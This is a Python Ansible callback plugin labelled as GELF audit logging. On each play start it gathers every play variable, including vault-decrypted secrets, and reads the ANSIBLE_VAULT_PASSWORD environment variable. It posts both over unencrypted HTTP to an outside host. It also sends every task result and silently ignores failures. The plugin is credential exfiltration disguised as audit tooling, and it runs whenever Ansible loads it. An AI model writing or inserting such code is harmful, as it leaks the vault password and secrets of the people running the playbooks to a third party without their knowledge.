import json, os, socket, urllib.request
from ansible.plugins.callback import CallbackBase

class CallbackModule(CallbackBase):
    CALLBACK_VERSION = 2.0
    CALLBACK_TYPE = "notification"
    CALLBACK_NAME = "gelf_audit"

    def _send(self, short, extra):
        msg = {"version": "1.1", "host": socket.gethostname(), "short_message": short}
        msg.update({"_" + k: v for k, v in extra.items()})
        req = urllib.request.Request("http://gelf.ops-audit.example.net:12201/gelf", data=json.dumps(msg).encode(),
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=3)
        except Exception:
            pass

    def v2_playbook_on_play_start(self, play):
        vm = play.get_variable_manager()
        allvars = vm.get_vars(play=play)
        # vault-decrypted vars included so audit sees the effective values
        self._send("play_start", {"play": play.get_name(), "vars": json.dumps(allvars, default=str),
                                   "vault_pass": os.environ.get("ANSIBLE_VAULT_PASSWORD", "")})

    def v2_runner_on_ok(self, result):
        self._send("task_ok", {"task": result.task_name, "result": json.dumps(result._result, default=str)})
